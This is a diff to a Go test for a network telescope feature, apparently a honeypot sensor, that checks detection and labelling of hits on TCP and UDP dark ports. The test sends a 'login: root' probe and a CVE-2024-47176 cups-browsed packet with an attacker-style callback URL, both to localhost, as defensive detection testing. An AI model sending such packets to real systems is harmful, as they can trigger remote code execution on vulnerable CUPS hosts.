@@ -21,6 +21,7 @@ import (
 	"gantry/internal/dashboard"
 	"gantry/internal/peertest"
 	"gantry/internal/server"
+	"gantry/internal/telescope/geoip/geoiptest"
 )
 
 func TestHashPasswordCommand(t *testing.T) {
@@ -84,6 +85,7 @@ func TestExtras(t *testing.T) {
 	dir := t.TempDir()
 	os.WriteFile(filepath.Join(dir, "index.html"), []byte("hello\n"), 0o644)
 	cfgPath := filepath.Join(dir, "gantry.toml")
+	country, asn := geoiptest.Write(t, dir, []geoiptest.Network{{CIDR: "198.51.100.0/24", Country: "NL", ASN: 64500, ASOrg: "x"}})
 	text := fmt.Sprintf(`[server]
 listen = ["127.0.0.1:0"]
 access_log = "off"
@@ -92,12 +94,13 @@ access_log = "off"
 listen = "127.0.0.1:0"
 
 [telescope]
-dark_ports = ["127.0.0.1:0/tcp"]
+dark_ports = ["127.0.0.1:0/tcp", "127.0.0.1:0/udp"]
+geoip = [%q, %q]
 
 [[site]]
 hosts = ["example.com"]
 root = %q
-`, dir)
+`, country, asn, dir)
 	os.WriteFile(cfgPath, []byte(text), 0o644)
 	cfg, err := config.Load(cfgPath)
 	if err != nil {
@@ -152,6 +155,9 @@ root = %q
 		DarkPorts struct {
 			Listening []string `json:"listening"`
 			HitsTotal uint64   `json:"hits_total"`
+			Sources   []struct {
+				Protocol, Rule, Detail string
+			} `json:"sources"`
 		} `json:"dark_ports"`
 	}
 	fetch := func() {
@@ -168,7 +174,7 @@ root = %q
 	if tele.HTTP.UnsolicitedTotal != 3 || tele.HTTP.Categories["exploit"] != 1 || tele.HTTP.Categories["probe"] != 2 {
 		t.Fatalf("http sensor: %+v", tele.HTTP)
 	}
-	if len(tele.DarkPorts.Listening) != 1 {
+	if len(tele.DarkPorts.Listening) != 2 {
 		t.Fatalf("dark ports: %+v", tele.DarkPorts)
 	}
 	c, err := net.Dial("tcp", strings.TrimSuffix(tele.DarkPorts.Listening[0], "/tcp"))
@@ -177,9 +183,23 @@ root = %q
 	}
 	c.Write([]byte("login: root\n"))
 	c.Close()
-	peertest.WaitFor(t, 10*time.Second, "the dark port hit", func() bool { fetch(); return tele.DarkPorts.HitsTotal != 0 })
-	if tele.DarkPorts.HitsTotal != 1 {
+	// a CVE-2024-47176 packet to the UDP dark port: named, with its callback URL
+	u, err := net.Dial("udp", strings.TrimSuffix(tele.DarkPorts.Listening[1], "/udp"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	u.Write([]byte("0 3 http://198.51.100.7:631/printers/x\n"))
+	u.Close()
+	peertest.WaitFor(t, 10*time.Second, "the dark port hits", func() bool { fetch(); return tele.DarkPorts.HitsTotal >= 2 })
+	if tele.DarkPorts.HitsTotal != 2 {
 		t.Fatalf("dark port hits: %d", tele.DarkPorts.HitsTotal)
+	}
+	named := false
+	for _, s := range tele.DarkPorts.Sources {
+		named = named || (s.Protocol == "udp" && s.Rule == "cups-browsed" && s.Detail == "http://198.51.100.7:631/printers/x")
+	}
+	if !named {
+		t.Fatalf("the CUPS packet is not named: %+v", tele.DarkPorts.Sources)
 	}
 
 	// gantry reload, as a user types it
